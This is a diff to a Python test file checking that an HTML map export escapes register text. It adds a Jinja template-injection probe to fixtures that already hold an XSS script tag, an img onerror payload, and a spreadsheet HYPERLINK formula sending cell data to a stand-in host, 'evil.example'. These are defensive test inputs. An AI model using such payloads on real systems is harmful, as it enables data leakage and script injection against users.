@@ -45,6 +45,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 SCRIPT = "<script>alert('x')</script> Depot"
 IMG = "<img src=x onerror=alert(1)>"
 PARTNER = "@SUM(1+1) Trust"
+# branca compiles rendered map scripts as Jinja templates: register text must never be evaluated on the server.
+TEMPLATE = "{{ 'zq' ~ 'xj' * 3 }} Hall"
 # Trafford's extent with a small margin (lon, lat).
 TRAFFORD_BOX = (-2.48, 53.35, -2.24, 53.49)
 LAYERS = {"neighbourhoods", "pcns", "overlaps", "buildings"}
@@ -59,6 +61,7 @@ def estate() -> pd.DataFrame:
     frame.loc[located[1], "name"] = SCRIPT
     frame.loc[located[2], "name"] = IMG
     frame.loc[located[3], "partner"] = PARTNER
+    frame.loc[located[4], "name"] = TEMPLATE
     return frame
 
 
@@ -246,6 +249,8 @@ def test_html_export_is_standalone_and_escapes_register_text(exported):
     assert external_asset_urls(page) == []
     assert "<script>alert" not in page
     assert "<img src=x onerror" not in page
+    assert "zqxjxjxj" not in page  # the template in a building name was not evaluated ...
+    assert "&#123;&#123; " in page  # ... its braces are shown as text
     assert "Crown copyright" in page
     assert "Hover a piece" in page  # the legend
     assert "leaflet-control-layers" in page or "L.control.layers" in page
